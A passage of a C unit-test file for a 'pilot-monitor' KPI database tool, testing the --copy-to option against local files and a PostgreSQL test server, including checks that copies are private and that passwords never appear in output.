  g_auto(PmTestRun) list_a = { 0, };
  g_auto(PmTestRun) list_b = { 0, };
  GStatBuf st;

  g_assert_cmpint (create.status, ==, 0);
  run = pm_test_cli_run (fixture->dir, "--database", fixture->path, "--copy-to", copied, NULL);
  g_assert_cmpint (run.status, ==, 0);
  g_assert_cmpstr (run.err, ==, "");
  g_assert_true (g_str_has_prefix (run.out, "Copied to "));
  g_assert_nonnull (strstr (run.out, "copy.db: 61 KPIs, "));
  g_assert_cmpint (g_stat (copied, &st), ==, 0);
  g_assert_cmpint (st.st_mode & 0777, ==, 0600);

  list_a = pm_test_cli_run (fixture->dir, "--database", fixture->path, "--list", NULL);
  list_b = pm_test_cli_run (fixture->dir, "--database", copied, "--list", NULL);
  g_assert_cmpint (list_a.status, ==, 0);
  g_assert_cmpint (list_b.status, ==, 0);
  g_assert_cmpstr (list_a.out, ==, list_b.out);
}

static void
test_copy_to_existing (Fixture       *fixture,
                       gconstpointer  data)
{
  g_autofree char *existing = g_build_filename (fixture->dir, "existing.db", NULL);
  g_auto(PmTestRun) create = pm_test_cli_run (fixture->dir, "--database", fixture->path, "--sample", NULL);
  g_auto(PmTestRun) run = { 0, };
  g_autofree char *before = NULL;
  g_autofree char *after = NULL;
  gsize before_len, after_len;

  g_assert_cmpint (create.status, ==, 0);
  g_assert_true (g_file_set_contents (existing, "Minutes of the board\n", -1, NULL));
  g_file_get_contents (existing, &before, &before_len, NULL);

  run = pm_test_cli_run (fixture->dir, "--database", fixture->path, "--copy-to", existing, NULL);
  g_assert_cmpint (run.status, ==, 1);
  g_assert_cmpstr (run.out, ==, "");
  g_assert_true (g_str_has_prefix (run.err, "pilot-monitor: "));
  g_assert_nonnull (strstr (run.err, "already exists"));

  g_file_get_contents (existing, &after, &after_len, NULL);
  g_assert_cmpmem (before, before_len, after, after_len);
  assert_only_file (fixture->dir, "existing.db");
}

static void
test_copy_to_usage (Fixture       *fixture,
                    gconstpointer  data)
{
  g_autofree char *copied = g_build_filename (fixture->dir, "copy.db", NULL);
  g_autofree char *csv = g_build_filename (fixture->dir, "kpis.csv", NULL);
  g_auto(PmTestRun) with_export = pm_test_cli_run (fixture->dir, "--database", fixture->path, "--copy-to", copied,
                                                   "--export-csv", "--period", "FY2016-Q3", "--output", csv, NULL);
  g_auto(PmTestRun) with_sample = pm_test_cli_run (fixture->dir, "--database", fixture->path, "--copy-to", copied,
                                                   "--sample", NULL);
  g_auto(PmTestRun) empty = pm_test_cli_run (fixture->dir, "--database", fixture->path, "--copy-to", "", NULL);
  g_auto(PmTestRun) missing = pm_test_cli_run (fixture->dir, "--database", fixture->path, "--copy-to", copied, NULL);

  g_assert_cmpint (with_export.status, ==, 2);
  g_assert_nonnull (strstr (with_export.err, "--copy-to"));
  g_assert_cmpint (with_sample.status, ==, 2);
  g_assert_cmpint (empty.status, ==, 2);

  /* Nothing to copy from: a failure, and nothing made. */
  g_assert_cmpint (missing.status, ==, 1);
  g_assert_nonnull (strstr (missing.err, "does not exist"));
  g_assert_false (g_file_test (fixture->path, G_FILE_TEST_EXISTS));
  g_assert_false (g_file_test (copied, G_FILE_TEST_EXISTS));
  g_assert_false (g_file_test (csv, G_FILE_TEST_EXISTS));
}

/* A file to a new database on the test server and back, and the server
 * database refused once it holds the copy; no password is ever shown. */
static void
test_copy_to_server (Fixture       *fixture,
                     gconstpointer  data)
{
  g_autofree char *back = g_build_filename (fixture->dir, "back.db", NULL);
  const char *password = g_getenv ("PM_TEST_PG_PASSWORD");
  g_autoptr(GError) error = NULL;
  g_autofree char *uri = NULL;
  g_auto(PmTestRun) create = { 0, };
  g_auto(PmTestRun) there = { 0, };
  g_auto(PmTestRun) again = { 0, };
  g_auto(PmTestRun) home = { 0, };
  g_auto(PmTestRun) list_a = { 0, };
  g_auto(PmTestRun) list_b = { 0, };
  g_auto(PmTestRun) list_c = { 0, };

  if (!pg_test_available ())
    {
      g_test_skip ("no PostgreSQL test server (PM_TEST_PG_URI)");
      return;
    }
  uri = pg_test_create_database ("pm_cli_copy", &error);
  g_assert_no_error (error);

  create = pm_test_cli_run (fixture->dir, "--database", fixture->path, "--sample", NULL);
  g_assert_cmpint (create.status, ==, 0);

  there = pm_test_cli_run (fixture->dir, "--database", fixture->path, "--copy-to", uri, NULL);
  g_assert_cmpint (there.status, ==, 0);
  g_assert_nonnull (strstr (there.out, "pm_cli_copy_"));
  g_assert_nonnull (strstr (there.out, ": 61 KPIs, "));

  again = pm_test_cli_run (fixture->dir, "--database", fixture->path, "--copy-to", uri, NULL);
  g_assert_cmpint (again.status, ==, 1);
  g_assert_nonnull (strstr (again.err, "is not empty"));

  home = pm_test_cli_run (fixture->dir, "--database", uri, "--copy-to", back, NULL);
  g_assert_cmpint (home.status, ==, 0);

  if (password != NULL && password[0] != '\0')
    {
      g_assert_null (strstr (there.out, password));
      g_assert_null (strstr (again.err, password));
      g_assert_null (strstr (home.out, password));
    }

  list_a = pm_test_cli_run (fixture->dir, "--database", fixture->path, "--list", NULL);
  list_b = pm_test_cli_run (fixture->dir, "--database", uri, "--list", NULL);
  list_c = pm_test_cli_run (fixture->dir, "--database", back, "--list", NULL);
  g_assert_cmpint (list_b.status, ==, 0);
  g_assert_cmpstr (list_a.out, ==, list_b.out);
  g_assert_cmpstr (list_a.out, ==, list_c.out);

  g_assert_true (pg_test_drop_database (uri, &error));
  g_assert_no_error (error);
}

int
main (int   argc,
      char *argv[])
{
  g_test_init (&argc, &argv, NULL);

#define ADD(path, func) \
  g_test_add (path, Fixture, "pilots.db", pm_test_folder_set_up, func, pm_test_folder_tear_down)

  ADD ("/cli/help", test_help);
  ADD ("/cli/sample/list", test_sample_list);
  ADD ("/cli/sample/refuses-existing", test_sample_refuses_existing);
  ADD ("/cli/import-export/round-trip", test_round_trip);
  ADD ("/cli/errors/missing-database", test_missing_database);
  ADD ("/cli/errors/not-a-database", test_not_a_database);
  ADD ("/cli/errors/import-malformed", test_import_malformed);
  ADD ("/cli/errors/import-invalid-value", test_import_invalid_value);
  ADD ("/cli/errors/import-site-total", test_import_site_total);
  ADD ("/cli/errors/usage", test_usage_errors);
  ADD ("/cli/errors/export-unwritable", test_export_unwritable);
  ADD ("/cli/import-csv", test_import_csv);
  ADD ("/cli/import-csv-numbers", test_import_csv_numbers);
  ADD ("/cli/import-csv/all-refused", test_import_csv_all_refused);
  ADD ("/cli/import-csv/repeated-row", test_import_csv_repeated_row);
  ADD ("/cli/export-csv/formulas", test_export_csv_formulas);
  ADD ("/cli/returns", test_returns);
  ADD ("/cli/accepted-quarter", test_accepted_quarter);
  ADD ("/cli/copy-to/file", test_copy_to_file);
  ADD ("/cli/copy-to/existing", test_copy_to_existing);
  ADD ("/cli/copy-to/usage", test_copy_to_usage);
  ADD ("/cli/copy-to/server", test_copy_to_server);

#undef ADD

  return g_test_run ();
}
